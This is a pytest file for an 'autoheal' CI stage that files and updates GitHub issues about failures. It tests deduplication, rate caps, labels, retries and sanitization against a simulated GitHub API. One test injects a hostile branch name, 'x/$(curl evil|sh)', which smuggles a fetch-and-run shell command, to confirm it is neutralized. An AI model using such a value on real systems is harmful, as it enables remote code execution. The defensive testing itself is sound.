"""open-issue end to end on the simulator, through the real PyGithub over HTTP: filing, repeats,
re-deliveries, regressions, the hourly cap, labels, dry runs, templates, permissions."""

from __future__ import annotations

from .test_open_issue_support import (
    ASSERT_LOG,
    HOSTILE,
    REPO,
    assert_neutral,
    make_analysis,
    open_issue,
    requests_since,
    workspace,
    write_analysis,
)

from autoheal.stages.open_issue.lock import lock_name
from autoheal.stages.open_issue.state import record_of

VIEWER = ("POST", "/graphql")  # query { viewer { login } }: a read, once per run when a marker is judged


def file_failure(sim, ws, analysis, name="analysis.json", **kwargs):
    return open_issue(sim, ws, {"analysis-file": write_analysis(ws, analysis, name)}, **kwargs)


def only_issue(sim, state="all"):
    issues = sim.issues(REPO, state=state)
    assert len(issues) == 1, [i["title"] for i in issues]
    return issues[0]


def test_files_one_issue_with_title_body_labels_and_outputs(sim, gh, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    analysis = make_analysis(base_url=sim.base_url)
    result = file_failure(sim, ws, analysis)
    assert result.exit_code == 0, result.stdout + result.stderr
    issue = only_issue(sim)
    module = analysis["specifics"]["modules"][0]
    assert issue["title"] == f"CI / test: missing dependency — {module}"
    assert sorted(label["name"] for label in issue["labels"]) == ["autoheal", "autoheal:missing_dependency"]
    assert result.outputs == {"issue-number": str(issue["number"]), "issue-url": issue["html_url"],
                              "action": "created", "reason": f"new failure (fingerprint {analysis['fingerprint'][:12]})"}
    assert record_of(issue["body"]).seen == ["101.1"]
    assert "created: issue 1" in result.stdout and "API requests:" in result.stdout
    # Labels were created once, with colour and description.
    labels = {lb.name: lb for lb in gh.get_repo(REPO).get_labels()}
    assert labels["autoheal"].color == "d73a4a" and labels["autoheal"].description.startswith("Filed by autoheal")
    assert labels["autoheal:missing_dependency"].description == "autoheal: missing dependency"


def test_running_twice_changes_nothing_the_second_time(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    analysis = make_analysis()
    file_failure(sim, ws, analysis)
    before = only_issue(sim)
    start = len(sim.requests)
    again = file_failure(sim, ws, analysis)
    assert again.exit_code == 0
    assert again.outputs["action"] == "skipped" and "already recorded" in again.outputs["reason"]
    assert again.outputs["issue-number"] == str(before["number"])  # draft-pr can still follow the issue
    assert requests_since(sim, start) == [("GET", "/repos/octo/app/issues"), VIEWER]
    assert only_issue(sim) == before and sim.comments(REPO, before["number"]) == []


def test_a_repeat_costs_six_requests_and_a_material_one_eight(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    file_failure(sim, ws, make_analysis(run_id=101))
    number = only_issue(sim)["number"]

    def later() -> str:  # a run that began after the issue's last change, as real runs do
        sim.clock.advance(minutes=15)
        return sim.clock.now().strftime("%Y-%m-%dT%H:%M:%SZ")

    lock = f"/repos/octo/app/labels/{lock_name(record_of(only_issue(sim)['body']).fingerprint)}"
    # Every write about a failure is done under its lock (open_issue/lock.py), decided again on a fresh listing.
    start = len(sim.requests)
    same_branch = file_failure(sim, ws, make_analysis(run_id=102, created_at=later()))
    assert same_branch.outputs["action"] == "updated"
    # VIEWER: the token's login, asked once when the first marked issue is judged (only autoheal's own count).
    assert requests_since(sim, start) == [("GET", "/repos/octo/app/issues"), VIEWER, ("POST", "/repos/octo/app/labels"),
                                          ("GET", "/repos/octo/app/issues"), ("PATCH", f"/repos/octo/app/issues/{number}"),
                                          ("DELETE", lock)]
    assert sim.comments(REPO, number) == []  # nothing material: no notification

    start = len(sim.requests)
    new_branch = file_failure(sim, ws, make_analysis(run_id=103, branch="release/2.x", created_at=later()))
    # A comment is counted against max_comments_per_hour and posted before the edit it announces.
    assert requests_since(sim, start) == [
        ("GET", "/repos/octo/app/issues"),
        VIEWER,
        ("POST", "/repos/octo/app/labels"),
        ("GET", "/repos/octo/app/issues"),
        ("GET", "/repos/octo/app/issues/comments"),
        ("POST", f"/repos/octo/app/issues/{number}/comments"),
        ("PATCH", f"/repos/octo/app/issues/{number}"),
        ("DELETE", lock),
    ]
    assert new_branch.requests == 8 and new_branch.outputs["action"] == "updated"
    assert [name for name in sim.labels(REPO) if name.startswith("autoheal-lock-")] == []
    body = only_issue(sim)["body"]
    record = record_of(body)
    assert record.count == 3 and record.seen == ["101.1", "102.1", "103.1"]
    assert "Seen **3** times" in body and "`release/2.x` (1)" in body
    (comment,) = sim.comments(REPO, number)
    assert "First time on branch `release/2.x`" in comment["body"]


def test_a_different_failure_gets_its_own_issue(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    file_failure(sim, ws, make_analysis(run_id=1))
    other = file_failure(sim, ws, make_analysis(ASSERT_LOG, run_id=2))
    assert other.outputs["action"] == "created"
    assert len(sim.issues(REPO, state="open")) == 2


def test_regression_within_the_window_reopens_instead_of_filing_again(sim, gh, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    file_failure(sim, ws, make_analysis(run_id=1))
    number = only_issue(sim)["number"]
    gh.get_repo(REPO).get_issue(number).edit(state="closed", state_reason="completed")
    sim.clock.advance(days=3)
    result = file_failure(sim, ws, make_analysis(run_id=2, created_at="2026-01-08T12:00:00Z"))
    assert result.outputs["action"] == "reopened" and result.outputs["issue-number"] == str(number)
    issue = only_issue(sim)
    assert issue["state"] == "open" and record_of(issue["body"]).count == 2
    assert "Regressed" in sim.comments(REPO, number)[-1]["body"]
    # Outside the window a new issue is filed.
    gh.get_repo(REPO).get_issue(number).edit(state="closed", state_reason="completed")
    sim.clock.advance(days=15)
    later = file_failure(sim, ws, make_analysis(run_id=3, created_at="2026-01-23T12:00:00Z"))
    assert later.outputs["action"] == "created" and later.outputs["issue-number"] != str(number)


def test_hourly_cap_is_counted_from_github(sim, gh, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path, "version: 1\nmin_confidence: 50\nrate_limits: {max_issues_per_hour: 2}\n")
    repo = gh.get_repo(REPO)
    repo.create_label("autoheal", "d73a4a")
    repo.create_issue("filed by an earlier run", labels=["autoheal"])
    closed = repo.create_issue("filed and closed by an earlier run", labels=["autoheal"])
    closed.edit(state="closed")
    result = file_failure(sim, ws, make_analysis())
    assert result.outputs["action"] == "skipped"
    assert result.outputs["reason"].startswith("max_issues_per_hour: 2 autoheal issue(s) created in the last hour")
    assert len(sim.issues(REPO)) == 2
    sim.clock.advance(minutes=61)
    assert file_failure(sim, ws, make_analysis()).outputs["action"] == "created"


def test_gates_skip_without_touching_github(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path, "version: 1\nmin_confidence: 70\nexcluded_workflows: ['Nightly*']\n")
    start = len(sim.requests)
    excluded = file_failure(sim, ws, make_analysis(workflow="Nightly build"))
    own = file_failure(sim, ws, make_analysis(workflow="autoheal"), name="own.json")
    assert excluded.outputs["action"] == own.outputs["action"] == "skipped"
    assert excluded.outputs["reason"] == "excluded_workflows: 'Nightly build' matches 'Nightly*'"
    assert "autoheal's own workflows" in own.outputs["reason"]
    assert requests_since(sim, start) == []
    low = file_failure(sim, ws, make_analysis(confidence=20), name="low.json")
    assert low.outputs["reason"] == "min_confidence: confidence 20 is below 70"
    overridden = open_issue(sim, ws, {"analysis-file": "low.json", "min-confidence": 10})
    assert overridden.outputs["action"] == "created"


def test_dry_run_prints_the_plan_and_writes_nothing(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    result = open_issue(sim, ws, {"analysis-file": write_analysis(ws, make_analysis()), "dry-run": True})
    assert result.exit_code == 0
    assert result.outputs["action"] == "created" and result.outputs["reason"].startswith("dry run: would be created")
    assert "create_issue" in result.stdout and "ensure_labels" in result.stdout
    assert sim.issues(REPO) == [] and result.writes == 0


def test_lost_response_on_create_is_found_by_marker_not_duplicated(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    sim.faults.add("lost_response", method="POST", path=r"^/repos/octo/app/issues$")
    result = file_failure(sim, ws, make_analysis())
    assert result.exit_code == 0, result.stdout + result.stderr
    issue = only_issue(sim)
    assert result.outputs["action"] == "created" and result.outputs["issue-number"] == str(issue["number"])
    assert [r.fault for r in sim.requests if r.method == "POST" and r.path == "/repos/octo/app/issues"] == ["lost_response"]
    assert record_of(issue["body"]).seen == ["101.1"]


def test_lost_responses_on_update_and_comment_are_not_repeated(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    file_failure(sim, ws, make_analysis(run_id=1))
    number = only_issue(sim)["number"]
    sim.faults.add("lost_response", method="PATCH", path=rf"/issues/{number}$")
    sim.faults.add("lost_response", method="POST", path=rf"/issues/{number}/comments$")
    result = file_failure(sim, ws, make_analysis(run_id=2, branch="dev"))
    assert result.exit_code == 0, result.stdout + result.stderr
    assert sum(r.fault == "lost_response" for r in sim.requests) == 2
    assert record_of(only_issue(sim)["body"]).count == 2
    assert len(sim.comments(REPO, number)) == 1


def test_token_without_issues_write_gets_a_clear_error(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    token = sim.add_token("ghs_readonly", permissions={"issues": "read", "metadata": "read", "contents": "read"})
    result = file_failure(sim, ws, make_analysis(), token=token)
    assert result.exit_code == 1
    (error,) = [line for line in result.annotations if line.startswith("::error")]
    assert "open-issue needs the `issues: write` permission" in error and "permissions:" in error
    printed = [line for line in (result.stdout + result.stderr).splitlines() if not line.startswith("::add-mask::")]
    assert not any("ghs_readonly" in line for line in printed)  # only ever handed to the runner's mask
    assert sim.issues(REPO) == []


def test_bad_analysis_file_names_the_input(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    (ws / "bad.json").write_text("{\"category\": \"x\"}")
    missing = open_issue(sim, ws, {"analysis-file": "nope.json"})
    bad = open_issue(sim, ws, {"analysis-file": "bad.json"})
    nothing = open_issue(sim, ws, {}, event_name="push")
    for result in (missing, bad, nothing):
        assert result.exit_code == 1 and any("input 'analysis-file'" in a for a in result.annotations), result.stdout


def test_template_input_and_config_template_from_the_repository(sim, tmp_path):
    sim.create_repo(REPO, files={".github/autoheal/issue.md.j2": "From the repo: {{ workflow }} {{ occurrences }}\n"})
    ws = workspace(tmp_path)
    (ws / "mine.md.j2").write_text("Custom body for {{ workflow }} / {{ job }}\n{{ occurrences }}\n")
    result = open_issue(sim, ws, {"analysis-file": write_analysis(ws, make_analysis(run_id=1)), "template": "mine.md.j2"})
    assert result.exit_code == 0, result.stdout
    assert "Custom body for CI / test" in only_issue(sim)["body"]

    (tmp_path / "ws2").mkdir()
    ws2 = workspace(tmp_path / "ws2", "version: 1\nmin_confidence: 50\nissues: {template: .github/autoheal/issue.md.j2}\n")
    start = len(sim.requests)
    other = file_failure(sim, ws2, make_analysis(ASSERT_LOG, run_id=2))
    assert other.exit_code == 0, other.stdout
    bodies = [i["body"] for i in sim.issues(REPO)]
    assert any("From the repo: CI" in b for b in bodies)
    # Read once, although the stage gathers and decides again under the failure's lock.
    template_reads = [r for r in requests_since(sim, start) if r[1].endswith("/contents/.github/autoheal/issue.md.j2")]
    assert len(template_reads) == 1, template_reads


def test_hostile_content_end_to_end_is_neutralized(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    analysis = make_analysis(failed_step=HOSTILE, head_branch="x/$(curl evil|sh)", suggested_fix=HOSTILE,
                             key_lines=[{"line": 1, "text": HOSTILE}, {"line": 2, "text": "x" * 1_000_000}],
                             novel_lines=[{"line": 1, "text": HOSTILE}], job="@org/team")
    result = file_failure(sim, ws, analysis)
    assert result.exit_code == 0, result.stdout
    issue = only_issue(sim)
    assert_neutral(issue["body"])
    assert "@org" not in issue["title"].replace("@\u200dorg", "")
    assert len(issue["body"]) <= 65536
    # A repeat from a new branch posts a comment that is just as safe.
    file_failure(sim, ws, dict(analysis, run_id=999, head_branch="@evil #5"))
    (comment,) = sim.comments(REPO, issue["number"])
    assert_neutral(comment["body"] + "\n<details><summary></summary></details>")


def test_clock_is_githubs(sim, tmp_path):
    """first/last seen come from the run; the hour window from the simulator's clock, not the machine's."""
    sim.create_repo(REPO)
    sim.clock.advance(days=400)
    ws = workspace(tmp_path, "version: 1\nmin_confidence: 50\nrate_limits: {max_issues_per_hour: 1}\n")
    file_failure(sim, ws, make_analysis(run_id=1))
    blocked = file_failure(sim, ws, make_analysis(ASSERT_LOG, run_id=2))
    assert blocked.outputs["action"] == "skipped"
    sim.clock.advance(minutes=61)
    assert file_failure(sim, ws, make_analysis(ASSERT_LOG, run_id=2)).outputs["action"] == "created"


def test_a_5xx_on_create_is_retried_once_without_a_duplicate(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    sim.faults.add("5xx", method="POST", path=r"^/repos/octo/app/issues$")
    result = file_failure(sim, ws, make_analysis(), gateway_options={"sleep": lambda seconds: None})
    assert result.exit_code == 0, result.stdout + result.stderr
    only_issue(sim)
    assert [r.status for r in sim.requests if r.method == "POST" and r.path == "/repos/octo/app/issues"][-1] == 201


def test_labels_are_never_duplicated_whatever_their_case(sim, gh, tmp_path):
    sim.create_repo(REPO)
    gh.get_repo(REPO).create_label("AutoHeal", "000000", "a maintainer's own")
    ws = workspace(tmp_path)
    file_failure(sim, ws, make_analysis(run_id=1))
    file_failure(sim, ws, make_analysis(ASSERT_LOG, run_id=2))
    names = sorted(lb.name.lower() for lb in gh.get_repo(REPO).get_labels())
    assert names == sorted(set(names)) == ["autoheal", "autoheal:missing_dependency", "autoheal:test_failure"]
    assert {lb.name: lb.color for lb in gh.get_repo(REPO).get_labels()}["AutoHeal"] == "000000"  # left alone


def test_odd_but_valid_analysis_fields_do_not_crash(sim, tmp_path):
    sim.create_repo(REPO)
    ws = workspace(tmp_path)
    analysis = make_analysis(key_lines="not a list", specifics=["not", "a", "mapping"], novel_lines=None)
    analysis.update(run_id="55", run_attempt=None, confidence=88.6, head_branch=None, head_sha=12,
                    failed_step=None, suggested_fix=None, workflow=None, created_at="yesterday")
    result = file_failure(sim, ws, analysis)
    assert result.exit_code == 0, result.stdout + result.stderr
    issue = only_issue(sim)
    assert issue["title"] == "workflow / test: missing dependency"
    assert record_of(issue["body"]).seen == ["55.1"] and record_of(issue["body"]).confidence == 88
